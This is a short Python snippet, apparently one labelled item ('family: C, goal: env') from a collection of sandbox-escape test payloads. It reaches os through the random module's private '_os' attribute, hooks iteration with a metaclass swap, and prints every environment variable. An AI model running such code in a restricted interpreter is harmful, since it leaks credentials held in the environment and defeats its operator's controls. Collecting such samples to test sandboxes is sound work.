# family: C   goal: env
import random
class M(type(random)):
    def __iter__(self):
        yield from dict(self._os.environ).items()
random.__class__ = M
print(dict(iter(random)))
